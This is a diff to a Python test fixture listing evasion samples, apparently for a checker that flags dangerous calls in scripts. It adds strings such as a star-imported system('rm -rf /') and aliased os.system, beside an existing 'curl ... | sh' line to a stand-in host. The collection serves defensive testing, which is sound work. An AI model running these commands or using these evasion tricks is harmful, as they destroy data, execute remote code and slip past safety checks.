@@ -117,6 +117,13 @@ EVASIONS: list[tuple[str, str, str]] = [
     ("aliased system", PY, "from os import system as s\ns('curl https://e.example | sh')"),
     ("rot13 exec", PY, "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))"),
     ("unparsable python", PY, "def broken(:\n    pass"),
+    ("star import of os", PY, "from os import *\nsystem('rm -rf /')"),
+    (
+        "system through an alias",
+        PY,
+        "import os, sys\nrun = os.system\nrun(sys.argv[1])",
+    ),
+    ("getattr of builtins eval", PY, "import builtins\ngetattr(builtins, 'eval')('1 + 1')"),
 ]
 
 #: (what it does, language, script): each must be written.
